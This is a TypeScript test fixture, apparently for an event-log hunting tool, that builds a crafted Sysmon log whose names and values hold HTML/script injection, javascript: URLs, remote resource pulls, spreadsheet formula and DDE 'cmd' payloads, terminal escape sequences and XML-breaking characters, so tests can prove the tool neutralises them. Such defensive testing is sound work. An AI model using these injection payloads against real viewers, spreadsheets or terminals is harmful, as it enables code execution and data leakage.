/**
 * A small Sysmon log crafted to attack the analyst rather than the parser: its names and values
 * carry HTML and script injection, `javascript:` URLs, unbalanced markup, pulls of a remote
 * image, script and stylesheet, spreadsheet formulas, terminal escape sequences and characters
 * XML 1.0 cannot hold. It is still a valid log that hunts to findings (a LOLBin phoning home, a
 * chain from process start to file written, a user-writable binary connecting out), so every
 * view and export of the tools shows the attacks. Tests use it to prove none of them works.
 *
 * Every script payload records itself in `window.__pwned` (an array of payload names), so a
 * test knows which one ran, if any.
 */
import {
  element,
  filetimeFromMs,
  normal,
  text,
  writeEvtx,
  type EventRecordInput,
} from '@evtxhunt/evtx/writer';

import { dnsQuery, fileCreate, networkConnect, processCreate } from './events.js';
import { Prng } from './prng.js';
import { SysmonEncoder, type SysmonEvent } from './sysmon-event.js';
import { guidFromName, sysmonSchemas, systemTemplate } from './templates.js';
import type { Host, Process } from './world.js';

/** The attacks, by name; `remote` is the origin the pulls name (e.g. http://127.0.0.2:8123). */
export interface HostilePayloads {
  readonly script: string;
  readonly imageHandler: string;
  readonly svgHandler: string;
  readonly javascriptUrl: string;
  readonly unbalanced: string;
  readonly remoteImage: string;
  readonly remoteScript: string;
  readonly remoteStyle: string;
  readonly terminal: string;
  readonly formulas: readonly string[];
  readonly xmlBreakers: string;
}

/** The payloads of a log whose remote pulls name `remote`. */
export function hostilePayloads(remote: string): HostilePayloads {
  const ran = (name: string) => `(window.__pwned=window.__pwned||[]).push('${name}')`;
  return {
    script: `<script>${ran('script')}</script>`,
    imageHandler: `"><img src=x onerror="${ran('img')}">`,
    svgHandler: `'><svg onload=${ran('svg')}>`,
    javascriptUrl: `javascript:${ran('url')}`,
    unbalanced: '</td></tr></table></div></section><b><i><!--',
    remoteImage: `<img src="${remote}/pull.png">`,
    remoteScript: `<script src="${remote}/pull.js"></script>`,
    remoteStyle: `<link rel="stylesheet" href="${remote}/pull.css"><style>@import url(${remote}/import.css);</style>`,
    terminal: '\x1b[2J\x1b]0;pwned\x07\x9b31m\u202etxt.exe\x7f\r',
    formulas: [
      `=HYPERLINK("${remote}/csv","x")`,
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd',
      '\t=1+1',
      '\r=1+1',
    ],
    xmlBreakers: `]]>&amp;<![CDATA[\u0001\u001f\ufffe'"`,
  };
}

/** The computer every event names: markup and a terminal escape in its name. */
export function hostileComputer(payloads: HostilePayloads): string {
  return `WKS-${payloads.svgHandler}${payloads.terminal}`;
}

/** The log's start: 2024-05-01T10:00:00Z. */
const START_MS = Date.UTC(2024, 4, 1, 10);
const RUNDLL32 = 'C:\\Windows\\System32\\rundll32.exe';
const EXPLORER = 'C:\\Windows\\explorer.exe';
/** The address the LOLBin is told to reach, named by the hostile DNS answer. */
export const HOSTILE_DESTINATION = '203.0.113.66';

/** The whole log as bytes: seven records in one chunk. */
export function hostileSysmonLog(remote: string): Uint8Array {
  const payloads = hostilePayloads(remote);
  const encoder = new SysmonEncoder(sysmonSchemas());
  const events = hostileEvents(payloads);
  const records: EventRecordInput[] = events.map((event, i) =>
    encoder.record(event, BigInt(i + 1), 4000 + i),
  );
  records.push(oddNamesRecord(payloads, hostileComputer(payloads), BigInt(records.length + 1)));
  return writeEvtx(records);
}

/** The Sysmon events: a LOLBin's chain (start, DNS, connection, file) and a dropped binary's. */
function hostileEvents(p: HostilePayloads): SysmonEvent[] {
  const host = hostileHost(p);
  const explorer = hostProcess(EXPLORER, 'explorer.exe', undefined, 1);
  const lolbin = hostProcess(RUNDLL32, `rundll32.exe ${p.javascriptUrl} ${p.script}`, explorer, 2);
  const dropped = hostProcess(
    `C:\\Users\\Public\\${p.imageHandler}${p.terminal}.exe`,
    p.formulas[1]!,
    explorer,
    3,
  );
  const r = new Prng(66);
  const at = (seconds: number) => START_MS + seconds * 1000;
  const queried = `${p.script}${p.remoteStyle}.evil.example`;

  const start = processCreate(host, lolbin, at(0), r);
  return [
    withFields(start, {
      RuleName: p.remoteStyle,
      Description: p.unbalanced,
      Company: p.formulas[0]!,
      Product: p.xmlBreakers,
      FileVersion: p.formulas[4]!,
      OriginalFileName: p.formulas[5]!,
      CurrentDirectory: p.formulas[2]!,
      ParentUser: p.formulas[3]!,
    }),
    dnsQuery(host, lolbin, at(2), queried, HOSTILE_DESTINATION),
    networkConnect(host, lolbin, at(3), {
      initiated: true,
      sourceIp: host.ip,
      sourcePort: 50123,
      destinationIp: HOSTILE_DESTINATION,
      destinationPort: 443,
      destinationHostname: `${p.remoteImage}${p.javascriptUrl}`,
    }),
    fileCreate(host, lolbin, at(5), `C:\\Users\\Public\\${p.remoteScript}${p.unbalanced}.hta`),
    processCreate(host, dropped, at(8), r),
    networkConnect(host, dropped, at(9), {
      initiated: true,
      sourceIp: host.ip,
      sourcePort: 50124,
      destinationIp: '198.51.100.23',
      destinationPort: 8080,
      destinationHostname: `${p.xmlBreakers}${p.terminal}`,
    }),
  ];
}

function hostileHost(p: HostilePayloads): Host {
  return {
    computer: hostileComputer(p),
    ip: '10.1.2.3',
    user: `CORP\\${p.formulas[0]!}`,
    userName: p.unbalanced,
    processes: [],
    logonGuid: '{6a1c0f00-0000-0000-0000-000000000001}',
    logonId: 0x3e7n,
  };
}

function hostProcess(
  image: string,
  commandLine: string,
  parent: Process | undefined,
  n: number,
): Process {
  const guid = `{6a1c0f00-1111-2222-3333-${n.toString(16).padStart(12, '0')}}`;
  return { guid, pid: 1000 + n, image, user: 'CORP\\analyst', commandLine, parent };
}

function withFields(event: SysmonEvent, fields: Readonly<Record<string, string>>): SysmonEvent {
  return { ...event, fields: { ...event.fields, ...fields } };
}

/**
 * One event of a hostile provider whose EventData field names are attacks too, as a crafted log
 * may name them anything: they reach the column chooser, the facets and the details pane.
 */
function oddNamesRecord(p: HostilePayloads, computer: string, recordId: bigint): EventRecordInput {
  const names = [p.imageHandler, p.javascriptUrl, `=${p.script}`, `${p.terminal}Name`];
  const data = names.map((name, i) => element('Data', { Name: text(name) }, normal(i, 'string')));
  const fragment = {
    template: { guid: guidFromName('hostile:odd-names'), root: element('EventData', {}, ...data) },
    values: [p.remoteImage, p.remoteScript, p.remoteStyle, p.unbalanced].map((value) => ({
      type: 'string' as const,
      value,
    })),
  };
  const ticks = filetimeFromMs(START_MS + 20_000, 0);
  return {
    writtenTime: ticks,
    event: {
      template: systemTemplate(computer),
      values: [
        { type: 'uint8', value: 4 },
        { type: 'uint8', value: 0 },
        { type: 'uint16', value: 0 },
        { type: 'uint16', value: 4242 },
        { type: 'null' },
        { type: 'hexint64', value: 0n },
        { type: 'filetime', value: ticks },
        { type: 'null' },
        { type: 'uint32', value: 4 },
        { type: 'uint32', value: 8 },
        { type: 'uint64', value: recordId },
        { type: 'uint8', value: 0 },
        { type: 'null' },
        { type: 'null' },
        { type: 'string', value: `Evil-Provider${p.imageHandler}` },
        { type: 'null' },
        { type: 'string', value: `Evil/${p.remoteImage}` },
        { type: 'binxml', value: fragment },
      ],
    },
  };
}
